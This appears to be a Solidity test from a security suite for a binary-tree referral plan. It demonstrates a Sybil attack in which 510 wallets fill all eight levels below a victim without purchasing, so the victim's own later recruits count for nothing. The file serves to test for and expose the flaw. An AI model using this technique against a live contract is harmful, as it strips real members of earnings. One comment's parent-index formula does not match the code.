// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {BinaryFixedBase} from "../plans/binaryFixed/BinaryFixedBase.sol";
import {Attack} from "./Attack.sol";

/// @title 510 wallets take every place of eight levels below a member, and buy nothing
contract TreePlacesAttack is BinaryFixedBase, Attack {
    uint256 private constant WALLETS = 510;

    function test_aMemberIsCutOffFromItsOwnEightLevels() public {
        uint256[] memory none = new uint256[](0);
        place(plan, 3, 2, false, none);
        uint256 victim = 3;
        // Breadth first: place n stands below place (n − 2) / 2, and place 0 is the victim's.
        uint256[] memory ids = new uint256[](WALLETS + 1);
        ids[0] = victim;
        uint256 taken;
        for (uint256 n = 1; n <= WALLETS; ++n) {
            address sybil = address(uint160(0xbad0000 + n));
            vm.startPrank(sybil);
            ids[n] = hub.join(victim, TERMS);
            (bool done,) = address(plan)
                .call(abi.encodeCall(plan.place, (ids[(n - 1) / 2], n % 2 == 0, _way(ids, (n - 1) / 2))));
            vm.stopPrank();
            if (done) ++taken;
        }
        took("M7.places", taken);
        vm.assertEq(taken, WALLETS, "all of eight levels, without a purchase");
        // Whom the victim brings itself stands on level nine, and counts for it no more.
        _recruit(victim, ids);
        vm.assertEq(plan.countersOf(0, victim).left + plan.countersOf(0, victim).right, 0, "nothing");
    }

    function _recruit(uint256 victim, uint256[] memory ids) private {
        address who = wallet(15);
        usdc.mint(who, UNIT);
        vm.startPrank(who);
        hub.join(victim, TERMS);
        plan.place(ids[255], false, _way(ids, 255));
        usdc.approve(address(plan), UNIT);
        plan.buy(UNIT);
        vm.stopPrank();
        vm.warp(block.timestamp + WINDOW);
        plan.finalize(one(1));
    }

    /// @dev From the parent of place `n` up to the victim.
    function _way(uint256[] memory ids, uint256 n) private pure returns (uint256[] memory way) {
        uint256 hops;
        for (uint256 at = n; at != 0; at = (at - 1) / 2) {
            ++hops;
        }
        way = new uint256[](hops);
        uint256 hop;
        for (uint256 at = n; at != 0;) {
            at = (at - 1) / 2;
            way[hop++] = ids[at];
        }
    }
}
